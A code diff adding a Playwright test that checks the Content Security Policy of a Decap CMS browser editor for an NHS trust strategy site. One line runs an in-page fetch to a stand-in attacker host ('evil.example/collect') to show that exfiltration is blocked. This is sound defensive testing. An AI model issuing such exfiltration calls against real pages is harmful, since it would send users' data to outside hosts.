@@ -6,13 +6,17 @@
  * script). The server sends the headers from src/site/security-headers.ts, the same list the
  * host files in each published folder are written from.
  */
-import { readFileSync } from 'node:fs';
+import type { ChildProcess } from 'node:child_process';
+import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { writeEditorSite } from '../../scripts/editor/editor-site.ts';
+import { serveEditorFolder, startLocalBackend, stopChild } from '../../scripts/editor/editor-server.ts';
 import { serveTrustFolder, type RunningServer } from '../../scripts/serve/trust-server.ts';
 import { launchBrowser } from '../support/browser.ts';
-import { pagePaths } from '../support/built-sites.ts';
+import { pagePaths, repoRoot } from '../support/built-sites.ts';
 import { sampleSlugs, sampleTrusts, type SampleSlug } from '../support/sample-trusts.ts';
 
 const dist = inject('builtSites');
@@ -104,6 +108,64 @@ describe('the policy stops what it must', () => {
     const response = await page.goto(`${base}files/logo.svg`);
     expect(response?.headers()['content-security-policy']).toMatch(/(^|; )sandbox($|;)/);
     expect(await page.title()).not.toBe('ran');
+    await page.close();
+  });
+});
+
+/**
+ * The browser editor's own page (Decap CMS, which holds the editors' GitHub sign-in) carries a
+ * strict policy in a <meta> element (scripts/editor/editor-site.ts says why each allowance is
+ * there): the editor loads, signs in to its local backend, opens a page and shows its preview
+ * without breaking it, and the policy is enforced (a request to another host is stopped).
+ */
+describe('the browser editor', () => {
+  let work: string;
+  let backend: { child: ChildProcess; proxyUrl: string };
+  let editor: { url: string; close: () => Promise<void> };
+
+  beforeAll(async () => {
+    work = mkdtempSync(path.join(tmpdir(), 'strategy-editor-csp-'));
+    cpSync(path.join(repoRoot, 'content', 'harbourside'), path.join(work, 'repo', 'content', 'harbourside'), { recursive: true });
+    backend = await startLocalBackend(path.join(work, 'repo'));
+    await writeEditorSite({
+      trust: { slug: 'harbourside', name: 'Harbourside Hospitals NHS Foundation Trust', url: 'https://harbourside.example/our-strategy/' },
+      out: path.join(work, 'editor'),
+      builtTrust: path.join(dist, 'harbourside'),
+      backend: { kind: 'local', proxyUrl: backend.proxyUrl },
+    });
+    editor = await serveEditorFolder(path.join(work, 'editor'));
+  });
+  afterAll(async () => {
+    await editor?.close();
+    if (backend) await stopChild(backend.child);
+    if (work) rmSync(work, { recursive: true, force: true });
+  });
+
+  it('loads, opens a page and its preview with no violation, under a policy that is enforced', async () => {
+    const { page, violations } = await policedPage();
+    await page.goto(editor.url);
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(policy).toContain("default-src 'none'");
+    expect(policy).toContain("script-src 'self' 'unsafe-eval';");
+    expect(policy).toContain(`connect-src 'self' blob: ${new URL(backend.proxyUrl).origin};`);
+    await page.getByRole('button', { name: 'Login' }).click();
+    await page.getByRole('link', { name: 'Goals or focus areas' }).waitFor();
+    await page.goto(`${editor.url}#/collections/goals/entries/goals`);
+    await expect.poll(() => page.getByRole('textbox', { name: 'Title' }).first().inputValue()).toBe('Our goals');
+    // The preview pane is Decap's own frame: it shows the page in the site's styles.
+    const preview = page.frameLocator('iframe').first();
+    await expect.poll(async () => (await preview.locator('body').textContent()) ?? '').toContain('Our goals');
+    expect(violations).toEqual([]);
+
+    // Enforced, not merely declared: the page cannot send anything to another host.
+    const sent = await page.evaluate(() =>
+      fetch('https://evil.example/collect').then(
+        () => 'sent',
+        () => 'stopped',
+      ),
+    );
+    expect(sent).toBe('stopped');
+    await expect.poll(() => violations.some((violation) => violation.startsWith('connect-src'))).toBe(true);
     await page.close();
   });
 });
